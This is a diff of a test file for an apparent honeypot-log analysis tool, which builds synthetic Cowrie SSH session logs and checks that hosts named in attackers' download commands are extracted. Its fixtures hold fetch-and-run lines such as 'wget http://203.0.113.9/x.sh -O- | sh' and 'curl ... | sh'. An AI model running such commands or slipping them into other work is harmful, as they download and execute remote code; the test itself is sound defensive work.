@@ -10,12 +10,33 @@ import { silentLog } from '../kit/log.ts';
 import { packageFolder } from '../version.ts';
 import { type Crossed, openDomains } from './domains.ts';
 import type { TakenAnswer } from './domains-messages.ts';
+import { decoySeeds } from './domains-seeds.ts';
 import { domainsWorkerEnd } from './domains-worker-end.ts';
 import { openFeeds } from './feeds.ts';
 
 let system: System;
 const folder = mkdtempSync(join(tmpdir(), 'caltrop-domains-'));
 const feeds = configSchema.parse({}).feeds;
+
+/** A session in which a decoy is told to fetch these. */
+async function attacked(from: number, urls: string[]): Promise<void> {
+  const cowrie = join(folder, `cowrie-${from}.json`);
+  const head = { src_ip: '192.0.2.7', session: `aa${from}`, sensor: 'd', protocol: 'ssh' };
+  const said = [
+    { eventid: 'cowrie.session.connect', src_port: 4, dst_ip: '198.51.100.1', dst_port: 22 },
+    { eventid: 'cowrie.login.success', username: 'root', password: 'x' },
+    ...urls.map((url) => ({
+      eventid: 'cowrie.command.input',
+      input: `cd /tmp; wget http://${url} -O- | sh`,
+    })),
+    { eventid: 'cowrie.session.closed', duration_ms: 4_000 },
+  ];
+  const text = said.map((one, second) =>
+    JSON.stringify({ timestamp: new Date(from + second * 1_000).toISOString(), ...head, ...one }),
+  );
+  writeFileSync(cowrie, `${text.join('\n')}\n`);
+  expect((await system.run('import', '--format', 'cowrie', cowrie)).code).toBe(0);
+}
 
 beforeAll(async () => {
   system = await openSystem();
@@ -24,24 +45,7 @@ beforeAll(async () => {
   for (let n = 0; n < 40; n++) lines.push(`www.shop${n}.example\t198.51.100.${n}`);
   writeFileSync(edges, `${lines.join('\n')}\n`);
   expect((await system.run('import', '--format', 'edges', edges)).code).toBe(0);
-  const cowrie = join(folder, 'cowrie.json');
-  const head = { src_ip: '192.0.2.7', session: 'aa01', sensor: 'd', protocol: 'ssh' };
-  const said = [
-    { eventid: 'cowrie.session.connect', src_port: 4, dst_ip: '198.51.100.1', dst_port: 22 },
-    { eventid: 'cowrie.login.success', username: 'root', password: 'x' },
-    { eventid: 'cowrie.command.input', input: 'cd /tmp; wget http://203.0.113.9/x.sh -O- | sh' },
-    { eventid: 'cowrie.command.input', input: 'curl http://update.kittens.example/y | sh' },
-    { eventid: 'cowrie.session.closed', duration_ms: 4_000 },
-  ];
-  const text = said.map((one, second) =>
-    JSON.stringify({
-      timestamp: new Date(Date.UTC(2026, 1, 1, 0, 0, second)).toISOString(),
-      ...head,
-      ...one,
-    }),
-  );
-  writeFileSync(cowrie, `${text.join('\n')}\n`);
-  expect((await system.run('import', '--format', 'cowrie', cowrie)).code).toBe(0);
+  await attacked(Date.UTC(2026, 1, 1), ['203.0.113.9/x.sh', 'update.kittens.example/y']);
 }, 240_000);
 afterAll(async () => {
   await system?.close();
@@ -230,4 +234,20 @@ it('passes over one answer that it cannot take, counts it, and takes the others'
   expect(end.counters.faults).toBe(1);
   await end.stop();
   await expect(end.ask('keep', {})).rejects.toThrow();
+});
+
+it('asks for what decoys were told of since the last look, and for all now and then', {
+  timeout: 60_000,
+}, async () => {
+  const read = decoySeeds(system.pipeline.sessions);
+  const hosts = async (whole: boolean) => (await read(whole)).map(({ host }) => host).sort();
+  const first = ['203.0.113.9', 'update.kittens.example'];
+  expect(await hosts(false)).toEqual(first);
+  await attacked(Date.UTC(2026, 1, 3), ['later.kittens.example/z']);
+  const second = [...first, 'later.kittens.example'].sort();
+  expect(await hosts(false)).toEqual(second);
+  // An import of an older log.
+  await attacked(Date.UTC(2026, 0, 3), ['older.kittens.example/z']);
+  expect(await hosts(false)).toEqual(second);
+  expect(await hosts(true)).toEqual([...second, 'older.kittens.example'].sort());
 });
